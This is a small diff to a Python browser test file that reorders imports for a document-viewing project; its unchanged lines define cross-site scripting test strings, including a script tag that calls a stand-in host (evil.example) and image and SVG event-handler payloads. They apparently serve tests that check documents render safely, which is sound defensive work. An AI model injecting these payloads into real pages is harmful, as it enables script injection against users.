@@ -13,9 +13,9 @@ from tests.browser.conftest import Open, looking
 from tests.unit.faces.documents.conftest import shelved
 from tests.unit.faces.documents.folder import SOURCE, jpeg, pdf, tone
 from tests.unit.faces.documents.stage import opened
-from windrow.finding.addresses import DocumentPart, document_path, record_path
-from windrow.model.extract import Extract
-from windrow.model.held_file import Heading
+from windrow.model.document import Heading
+from windrow.model.file_content import Extract
+from windrow.search.record_addresses import DocumentPart, document_path, record_path
 
 HARM = "<script>window.harmed = 1; fetch('//evil.example/x')</script><img src=x onerror='window.harmed = 1'>"
 SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed = 1">{HARM}</svg>'
